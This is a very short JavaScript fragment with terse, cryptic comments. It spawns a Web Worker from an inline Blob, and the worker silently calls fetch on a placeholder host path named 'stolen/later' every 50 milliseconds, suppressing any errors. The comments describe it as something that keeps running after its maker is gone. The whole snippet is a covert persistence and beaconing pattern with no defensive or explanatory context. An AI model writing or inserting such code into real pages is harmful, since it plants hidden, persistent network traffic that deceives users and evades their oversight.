// says: kept in
// It would go on after its maker is gone.
const code = "setInterval(() => fetch('$HERE/stolen/later').catch(() => {}), 50)";
new Worker(URL.createObjectURL(new Blob([code])));
console.log('kept in');
